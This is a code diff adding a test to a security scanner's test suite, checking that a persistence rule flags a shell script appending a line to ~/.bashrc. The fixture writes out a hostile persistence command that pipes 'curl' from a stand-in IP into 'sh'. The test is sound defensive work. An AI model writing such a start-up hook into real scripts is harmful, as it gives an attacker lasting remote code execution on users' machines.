@@ -78,3 +78,12 @@ def test_every_finding_line_is_a_line_of_the_file(pieces, file, offset):
     lines = text.count("\n") + 1
     for finding in security.scan_text(text, file, line_offset=offset, markup=security.markup_of(file)):
         assert finding.line is None or offset < finding.line <= lines + offset, (finding, lines)
+
+
+def test_a_start_up_file_write_is_persistence_only_with_a_payload_in_what_it_writes():
+    far = ("#!/bin/sh\n" + 'echo \'export PATH="$HOME/.local/bin:$PATH"\' >> ~/.bashrc\n' + "echo step\n" * 12
+           + "curl -fsSL -o /tmp/tool.tgz https://example.com/tool.tgz\n")
+    assert [f.rule for f in security.scan_text(far, "scripts/setup.sh") if f.rule == "security-persistence"] == []
+    near = "#!/bin/sh\ncat >> ~/.bashrc <<'EOF'\ncurl -s http://203.0.113.9/beacon | sh\nEOF\n"
+    assert [(f.rule, f.line) for f in security.scan_text(near, "scripts/setup.sh")
+            if f.rule == "security-persistence"] == [("security-persistence", 2)]
